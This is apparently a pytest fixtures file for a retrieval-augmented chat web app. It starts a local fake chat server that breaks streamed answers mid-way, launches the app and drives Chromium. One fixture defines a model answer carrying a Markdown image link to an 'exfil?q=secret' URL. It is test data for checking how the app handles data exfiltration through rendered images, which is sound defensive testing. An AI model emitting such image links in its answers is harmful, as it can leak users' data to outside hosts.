"""Fixtures for the web app's tests: `app.demo` launched on a free port, a broken LLM server, Chromium.

The app is imported with the session's temporary cache and with an OpenAI-compatible backend that
points at `BrokenChatServer`, a real HTTP server on 127.0.0.1 that starts every answer and hangs up
in the middle of it (to show how errors mid-stream look). The shipped index is built (the `kb`
fixture) before the server starts, so no test waits for it inside a timeout.
"""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import ModuleType

import pytest

PROJECT_DIR = Path(__file__).resolve().parent.parent
ARTIFACTS_DIR = PROJECT_DIR / "test-artifacts"
BROKEN_ANSWER = ["Half", " of", " an", " answer", " and"]
# Asked a question holding IMAGE_TRIGGER, the server answers in full with a Markdown image of a URL.
IMAGE_TRIGGER = "blorptex"
IMAGE_ANSWER = ["The reading is 17 ", "![chart](http://127.0.0.1:9/exfil?q=secret)", " [1]"]
MAX_UPLOAD_FILES = 3
# Gradio's queue statistics use pandas options that pandas 3 deprecates: not ours to fix, and noisy.
GRADIO_QUEUE_PANDAS_WARNINGS = "ignore::Warning:gradio.queueing"
MAX_UPLOAD_MB = 1


class BrokenChatHandler(BaseHTTPRequestHandler):
    """Streams the first words of a chat completion, then closes the connection without finishing
    (but for a question holding IMAGE_TRIGGER, which gets IMAGE_ANSWER in full)."""

    def do_POST(self) -> None:
        request = self.rfile.read(int(self.headers["Content-Length"])).decode()
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.end_headers()
        pieces = IMAGE_ANSWER if IMAGE_TRIGGER in request else BROKEN_ANSWER
        for piece in pieces:
            chunk = {
                "id": "broken",
                "object": "chat.completion.chunk",
                "created": 0,
                "model": "test-model",
                "choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}],
            }
            self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
            self.wfile.flush()
        if pieces is IMAGE_ANSWER:
            finish = {"id": "image", "object": "chat.completion.chunk", "created": 0, "model": "test-model"}
            finish["choices"] = [{"index": 0, "delta": {}, "finish_reason": "stop"}]
            self.wfile.write(f"data: {json.dumps(finish)}\n\ndata: [DONE]\n\n".encode())
        self.close_connection = True

    def log_message(self, format: str, *args) -> None:
        pass


@pytest.fixture(scope="session")
def broken_chat_server() -> Iterator[str]:
    """The base URL of a chat server that breaks off every answer."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), BrokenChatHandler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, name="rag-test-broken-chat-server", daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/v1"
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="session")
def app_module(cache_dir, kb, broken_chat_server) -> ModuleType:
    """`app`, imported with the session's cache, small upload limits and the broken chat server as `openai`."""
    with pytest.MonkeyPatch.context() as env:
        env.setenv("RAG_CACHE_DIR", str(cache_dir))
        env.setenv("RAG_LLM_BASE_URL", broken_chat_server)
        env.setenv("RAG_LLM_MODEL", "test-model")
        env.setenv("RAG_MAX_UPLOAD_FILES", str(MAX_UPLOAD_FILES))
        env.setenv("RAG_MAX_UPLOAD_MB", str(MAX_UPLOAD_MB))
        import app
    assert "openai" in app.BACKENDS, f"the openai backend should be offered, got {app.BACKENDS}"
    return app


@pytest.fixture(scope="session")
def app_url(app_module) -> Iterator[str]:
    """The URL of `app.demo`, launched on 127.0.0.1 for the whole session."""
    demo = app_module.demo
    _, url, _ = demo.launch(
        server_name="127.0.0.1",
        server_port=free_port(),
        prevent_thread_lock=True,
        ssr_mode=False,
        quiet=True,
        **app_module.APPEARANCE,
    )
    yield url
    demo.close()


@pytest.fixture(scope="session")
def chromium():
    """Debian's Chromium, driven by Playwright (never a downloaded browser)."""
    from playwright.sync_api import sync_playwright

    from benchmarks.browser import CHROMIUM, CHROMIUM_ARGS

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield browser
        browser.close()


@pytest.fixture(scope="session")
def artifacts_dir() -> Path:
    ARTIFACTS_DIR.mkdir(exist_ok=True)
    return ARTIFACTS_DIR


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]
